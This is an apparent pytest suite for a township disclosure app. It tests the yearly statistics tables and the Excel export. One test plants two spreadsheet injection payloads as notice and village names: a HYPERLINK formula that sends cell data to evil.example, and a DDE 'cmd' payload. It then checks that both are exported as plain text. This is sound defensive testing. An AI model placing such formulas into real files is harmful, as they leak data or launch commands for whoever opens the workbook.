"""Statistics tables and the yearly workbook, on the demo township."""

from __future__ import annotations

import errno
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from tests.conftest import run_cli
from zwgk_desktop.core.line_items import counted_amount
from zwgk_desktop.core.models import Disclosure, DisclosureItem, Objection, Photo, Posting, Setting
from zwgk_desktop.core.users import SYSTEM_ACTOR
from zwgk_desktop.ops.statistics import export_statistics
from zwgk_desktop.services.reports import (
    DISCLOSED_STATUSES, NoData, available_years, write_workbook, year_statistics,
)


@pytest.fixture
def year(demo_db) -> int:
    with demo_db.session() as s:
        return available_years(s)[0]


def stats_for(db, year):
    with db.session() as s:
        return year_statistics(s, year)


def disclosed_ids(db, year) -> list[str]:
    with db.session() as s:
        return list(s.execute(select(Disclosure.id).where(
            Disclosure.year == year, Disclosure.status.in_(DISCLOSED_STATUSES))).scalars())


def test_only_disclosed_notices_count(demo_db, year):
    """Drafts, notices under review and withdrawn notices are not counted as disclosed."""
    stats = stats_for(demo_db, year)
    ids = disclosed_ids(demo_db, year)
    with demo_db.session() as s:
        all_of_year = s.execute(select(func.count()).select_from(Disclosure).where(Disclosure.year == year)).scalar()
        items = s.execute(select(func.count(DisclosureItem.id)).where(DisclosureItem.disclosure_id.in_(ids))).scalar()
        money = s.execute(select(func.sum(counted_amount())).where(DisclosureItem.disclosure_id.in_(ids))).scalar()  # 停保 not counted
    by_category = stats.table("by_category")
    assert all_of_year > len(ids) > 0
    assert by_category.total[1] == len(ids) == stats.notices
    assert by_category.total[2] == items
    assert by_category.total[4] == money
    assert stats.table("by_month").total[4] == money
    assert stats.table("by_village").total[4] == money


def test_objections_received_and_resolved(demo_db, year):
    """The objections table counts every objection to a disclosed notice and how many were resolved."""
    ids = disclosed_ids(demo_db, year)
    with demo_db.session() as s:
        statuses = list(s.execute(select(Objection.status).where(Objection.disclosure_id.in_(ids))).scalars())
    total = stats_for(demo_db, year).table("objections").total
    assert total[1] == len(statuses)
    assert total[2] == statuses.count("resolved")
    assert total[3] == statuses.count("open")


def test_postings_with_photo_evidence_are_counted(demo_db, year):
    """Linking a photo to a posting moves it from 'without' to 'with photo evidence'."""
    before = stats_for(demo_db, year).table("evidence").total
    ids = disclosed_ids(demo_db, year)
    with demo_db.session() as s:
        posting = s.execute(select(Posting).where(Posting.disclosure_id.in_(ids)).limit(1)).scalar()
        for role, sha in (("start", "a" * 64), ("end", "b" * 64)):
            s.add(Photo(sha256=sha, original_name=f"{role}.jpg", stored_path=f"photos/x/{sha}.jpg", size_bytes=1,
                        width=1600, height=1200, posting_id=posting.id, role=role))
    after = stats_for(demo_db, year)
    evidence = after.table("evidence").total
    assert evidence[2] == before[2]  # postings unchanged
    assert evidence[5] == before[5] + 1  # one more posting with a photo (two photos, one posting)
    assert evidence[6] == before[6] - 1
    assert evidence[3] == before[3] + 1 and evidence[4] == before[4] + 1
    assert after.table("by_category").total[6] == evidence[5]


def test_social_assistance_figures(demo_db, year):
    """临时救助 户次数/资金支出/救助水平 come from the disclosed notices; 低保标准 uses the county setting when present."""
    ids = disclosed_ids(demo_db, year)
    with demo_db.session() as s:
        linshi = [d for d in ids if s.get(Disclosure, d).category == "linshi"]
        cases, money = s.execute(select(func.count(DisclosureItem.id), func.sum(DisclosureItem.amount_fen))
                                 .where(DisclosureItem.disclosure_id.in_(linshi))).one()
    table = stats_for(demo_db, year).table("assistance")
    row = {r[0]: r for r in table.rows}
    assert row["临时救助"][1] == cases
    assert row["临时救助"][5] == money
    assert abs(row["临时救助"][4] * cases - money) <= cases  # average per case, rounded to the fen
    assert "推算" in row["城乡低保"][3]
    assert row["城乡低保"][1] > 0 and row["城乡低保"][2] >= row["城乡低保"][1]
    with demo_db.session() as s:
        s.add(Setting(key="subsidy_standards", value={"dibao": {"农村": 56000, "城市": 68000}}))
    row = {r[0]: r for r in stats_for(demo_db, year).table("assistance").rows}
    assert row["城乡低保"][3] == "农村 560.00元/人·月；城市 680.00元/人·月"


def test_correction_is_counted_once(demo_db, year):
    """A corrected notice (更正) counts once, as its newest version."""
    before = stats_for(demo_db, year).table("by_category").total
    with demo_db.session() as s:
        old = s.get(Disclosure, disclosed_ids(demo_db, year)[0])
        s.add(Disclosure(township_id=old.township_id, category=old.category, title=old.title + "（更正）",
                         status="publishing", version=2, replaces_id=old.id, year=year, period_start=old.period_start,
                         item_count=0))
    after = stats_for(demo_db, year).table("by_category").total
    assert after[1] == before[1]


def test_year_without_data_is_refused(demo_db):
    """A year with no disclosed notice gives a clear Chinese 'no_data' error."""
    with demo_db.session() as s, pytest.raises(NoData) as caught:
        year_statistics(s, 2011)
    assert caught.value.code == "no_data"
    assert "2011年没有已公示" in caught.value.message


def test_workbook_is_formatted(demo_db, year, tmp_path):
    """Each table is a sheet with a bold header, frozen panes, money with two decimals and a bold totals row."""
    out = tmp_path / "统计.xlsx"
    sheets = list(export_statistics(demo_db, SYSTEM_ACTOR, year, out).sheets)
    assert sheets == ["按类别", "按月份", "按村", "张贴留证", "异议处理", "社会救助", "公示清单"]
    wb = load_workbook(out)
    assert wb.sheetnames == sheets
    ws = wb["按类别"]
    header = [c.value for c in ws[3]]
    assert header[0] == "公开类别" and "涉及金额(元)" in header
    assert all(c.font.bold for c in ws[3] if c.value)
    assert ws.freeze_panes == "B4"
    money_col = header.index("涉及金额(元)") + 1
    stats = stats_for(demo_db, year)
    total_row = 4 + len(stats.table("by_category").rows)
    total_cell = ws.cell(row=total_row, column=money_col)
    assert ws.cell(row=total_row, column=1).value == "合计" and total_cell.font.bold
    assert total_cell.number_format == "#,##0.00"
    assert Decimal(str(total_cell.value)) == Decimal(stats.table("by_category").total[4]) / 100
    assert ws.column_dimensions["A"].width >= 12
    assert not list(tmp_path.glob("*.partial"))


def test_failed_write_leaves_no_file(demo_db, year, tmp_path, monkeypatch):
    """A disk-full failure while saving leaves neither the workbook nor a temp file."""
    import openpyxl.workbook.workbook as wbmod

    def full_disk(self, filename):
        with open(filename, "wb") as fh:
            fh.write(b"PK\x03\x04partial")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(wbmod.Workbook, "save", full_disk)
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    with demo_db.session() as s:
        stats = year_statistics(s, year)
    with pytest.raises(Exception) as caught:
        write_workbook(stats, out_dir / "out.xlsx")
    assert getattr(caught.value, "code", "") == "write_failed"
    assert list(out_dir.iterdir()) == []


def test_cli_report_stats(demo_config, demo_db, year, tmp_path):
    """`report stats` writes the workbook and lists its sheets; an empty year exits 1 and writes nothing."""
    demo_db.dispose()
    out = tmp_path / "stats.xlsx"
    code, payload, _err = run_cli("report", "stats", "--year", str(year), "-o", str(out), "--json", data_dir=demo_config.data_dir)
    assert code == 0 and payload["sheets"][0] == "按类别" and out.exists()
    empty = tmp_path / "empty.xlsx"
    code, payload, err = run_cli("report", "stats", "--year", "2012", "-o", str(empty), "--json", data_dir=demo_config.data_dir)
    assert code == 1 and payload["error"]["code"] == "no_data" and "2012" in err
    assert not empty.exists()


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(demo_db, year, tmp_path):
    """A notice title or village name beginning with = + - @ is written as text, never as a live formula."""
    hostile_title = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    with demo_db.session() as s:
        notice = s.get(Disclosure, disclosed_ids(demo_db, year)[0])
        notice.title = hostile_title
        item = s.execute(select(DisclosureItem).where(DisclosureItem.disclosure_id == notice.id).limit(1)).scalar()
        item.village_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    out = tmp_path / "stats.xlsx"
    export_statistics(demo_db, SYSTEM_ACTOR, year, out)
    wb = load_workbook(out)
    titles = {c.value: c.data_type for c in wb["公示清单"]["A"] if c.value}
    assert titles[hostile_title] == "s"
    villages = {c.value: c.data_type for c in wb["按村"]["A"] if c.value}
    assert villages["@SUM(1+1)*cmd|' /C calc'!A0"] == "s"
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_a_bad_output_name_is_refused_before_any_work(demo_db, year, tmp_path):
    """`export_statistics` to a .csv name or a missing folder is refused in Chinese and writes nothing."""
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(Exception) as caught:
        export_statistics(demo_db, SYSTEM_ACTOR, year, out / "stats.csv")
    assert caught.value.code == "bad_output" and ".xlsx" in caught.value.message
    with pytest.raises(Exception) as caught:
        export_statistics(demo_db, SYSTEM_ACTOR, year, out / "nowhere" / "stats.xlsx")
    assert caught.value.code == "bad_output" and "不存在" in caught.value.message
    assert list(out.iterdir()) == []
